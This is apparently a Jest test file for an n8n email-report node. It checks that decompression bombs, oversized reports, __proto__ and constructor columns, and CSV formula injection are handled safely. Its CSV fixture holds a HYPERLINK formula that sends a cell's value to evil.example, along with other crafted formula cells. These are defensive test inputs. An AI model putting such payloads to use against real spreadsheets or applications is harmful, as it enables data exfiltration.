'use strict';
// Hostile or oversized report files through the whole node, over real sockets: decompression
// bombs stop at Max Unpacked Size / Max Unpack Ratio whatever the output, Rows output refuses
// more rows than Row Safety Limit, and crafted columns (`__proto__`, formulas) come through with their values.
const { Selzy, useSelzy, reportParams, downloads, jsonOf } = require('./selzy.support');

const env = useSelzy();
const MIB = 1024 * 1024;
const run = (campaignId, output, options = {}) =>
	env.harness.runExecute(Selzy, { parameters: reportParams(campaignId, { waitMode: 'poll', output, options }) });

/** Heap growth while `work` runs, sampled every 20 ms. */
async function peakHeapGrowth(work) {
	global.gc?.();
	const base = process.memoryUsage().heapUsed;
	let peak = base;
	const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().heapUsed)), 20);
	try {
		return { result: await work(), growth: peak - base };
	} finally {
		clearInterval(timer);
	}
}

describe('a report that unpacks to gigabytes stops early, whatever the output', () => {
	test.each(['rows', 'summary', 'file'])('a 6 MB gzip of 2 GiB of rows (%s output) fails naming Max Unpack Ratio', async (output) => {
		const { sb } = env;
		sb.fault({ kind: 'bomb', format: 'gzip', size: 2048 * MIB });
		const started = Date.now();
		const { result, growth } = await peakHeapGrowth(() => run(1001, output));
		expect(result.status).toBe('error');
		expect(result.error.message).toMatch(
			new RegExp(`^The report of task ${sb.tasks[0].uuid} was not returned: The report unpacks to more than 100 times its compressed size \\(Max Unpack Ratio\\)`),
		);
		expect(result.error.description).toMatch(/raise the Max Unpack Ratio option/);
		expect(Date.now() - started).toBeLessThan(10_000);
		expect(growth).toBeLessThan(400 * MIB);
		expect(downloads(sb)).toHaveLength(1);
	});

	test('with the ratio raised, Max Unpacked Size (MB) stops it', async () => {
		const { sb } = env;
		sb.fault({ kind: 'bomb', format: 'gzip', size: 2048 * MIB });
		const { error } = await run(1001, 'summary', { maxUnpackRatio: 100_000, maxUnpackedSize: 32 });
		expect(error.message).toMatch(/The report unpacks to more than 32 MB \(Max Unpacked Size\), from [\d.]+ MB downloaded so far$/);
		expect(error.description).toMatch(/raise the Max Unpacked Size \(MB\) option/);
	});

	test('a zip whose entry unpacks past its declared size fails at that size', async () => {
		const { sb } = env;
		sb.fault({ kind: 'bomb', format: 'zip', size: 512 * MIB, declare: 200_000 });
		const { error } = await run(1001, 'rows', { maxUnpackRatio: 100_000 });
		expect(error.message).toMatch(/The zip archive of the report is damaged or incomplete \(the file unpacks to more than the 200000 bytes its header declares\)/);
	});

	test('a streamed zip bomb (sizes after the data) in Rows output fails naming Max Unpack Ratio', async () => {
		const { sb } = env;
		sb.fault({ kind: 'bomb', format: 'zip', size: 2048 * MIB });
		const { error } = await run(1001, 'rows');
		expect(error.message).toMatch(/Max Unpack Ratio/);
	});
});

describe('Row Safety Limit', () => {
	test('Rows output refuses a report with more rows than the limit, naming Max Rows and the filters', async () => {
		const { status, error, output } = await run(1004, 'rows', { rowSafetyLimit: 5000 });
		expect(status).toBe('error');
		expect(output).toBeUndefined();
		expect(error.message).toMatch(/was not returned: The report has more than 5,000 rows to return \(Row Safety Limit\)/);
		expect(error.description).toMatch(/^Set Max Rows to return only the first rows, keep fewer rows with the Status Groups or Send Results filters, or choose the Summary or File output\. To return them all anyway, raise Row Safety Limit\./);
	});

	test('within the limit, filtered rows or Max Rows come back as usual', async () => {
		const bounces = await run(1004, 'rows', { rowSafetyLimit: 6000, statusGroups: ['hard_bounce'] });
		expect(bounces.status).toBe('success');
		const truth = env.sb.groundTruth({ campaignId: 1004 });
		expect(bounces.output[0].length).toBeGreaterThan(4000);
		expect(bounces.output[0].length).toBeLessThanOrEqual(6000);
		expect(bounces.output[0].length).toBeLessThan(truth.total);
		const first = await run(1004, 'rows', { rowSafetyLimit: 100, maxRows: 100 });
		expect(first.output[0]).toHaveLength(100);
	});

	test('a bomb of rows with the unpack limits raised stops at the limit, not at n8n’s memory', async () => {
		const { sb } = env;
		sb.fault({ kind: 'bomb', format: 'gzip', size: 2048 * MIB });
		const { result, growth } = await peakHeapGrowth(() =>
			run(1001, 'rows', { maxUnpackRatio: 100_000, maxUnpackedSize: 4096, rowSafetyLimit: 20_000 }),
		);
		expect(result.error.message).toMatch(/more than 20,000 rows to return \(Row Safety Limit\)/);
		expect(growth).toBeLessThan(400 * MIB);
	});
});

describe('crafted columns and cells', () => {
	const CSV = [
		'email,send_result,last_update,__proto__,constructor,phone,note',
		'=HYPERLINK("http://evil.example/?"&A1;"open"),ok_read,2026-05-01 10:20:30,proto value,ctor value,+7 912 123-45-67,@SUM(1+1)',
		'anna@example.com,err_user_unknown,2026-05-01 10:21:00,p2,c2,-42,-1+A1',
	].join('\r\n');

	test('__proto__ and constructor columns reach the items with their values, as <name>_column', async () => {
		const { sb } = env;
		sb.fault({ kind: 'file', body: CSV });
		const { output, error } = await run(1001, 'rows');
		expect(error).toBeUndefined();
		const rows = jsonOf(output[0]);
		expect(rows.map((row) => Object.keys(row.fields))).toEqual([
			['__proto___column', 'constructor_column', 'phone', 'note'],
			['__proto___column', 'constructor_column', 'phone', 'note'],
		]);
		expect(rows.map((row) => row.fields.__proto___column)).toEqual(['proto value', 'p2']);
		expect(rows[1].fields).toEqual({ __proto___column: 'p2', constructor_column: 'c2', phone: '-42', note: '-1+A1' });
	});

	test('a __proto__ key in a JSON report is kept too', async () => {
		const { sb } = env;
		const body = JSON.stringify({ result: { fields: ['email', 'send_result', '__proto__'], data: [['a@b.c', 'ok_read', 'kept']] } });
		sb.fault({ kind: 'file', body, contentType: 'application/json' });
		const { output } = await run(1001, 'rows');
		expect(JSON.stringify(output[0][0].json.fields)).toBe('{"__proto___column":"kept"}');
	});

	test('formulas pass unchanged by default and are neutralised with Neutralize Formulas; phone numbers stay', async () => {
		const { sb } = env;
		sb.fault({ kind: 'file', body: CSV });
		const plain = jsonOf((await run(1001, 'rows')).output[0]);
		expect(plain[0].email).toBe('=HYPERLINK("http://evil.example/?"&A1;"open")');
		expect(plain[0].fields.note).toBe('@SUM(1+1)');

		sb.fault({ kind: 'file', body: CSV });
		const safe = jsonOf((await run(1001, 'rows', { neutralizeFormulas: true })).output[0]);
		expect(safe[0].email).toBe('\'=HYPERLINK("http://evil.example/?"&A1;"open")');
		expect(safe[0].fields).toEqual(expect.objectContaining({ phone: '+7 912 123-45-67', note: "'@SUM(1+1)" }));
		expect(safe[1].fields).toEqual(expect.objectContaining({ phone: '-42', note: "'-1+A1" }));
		expect(safe[1].email).toBe('anna@example.com');
	});
});
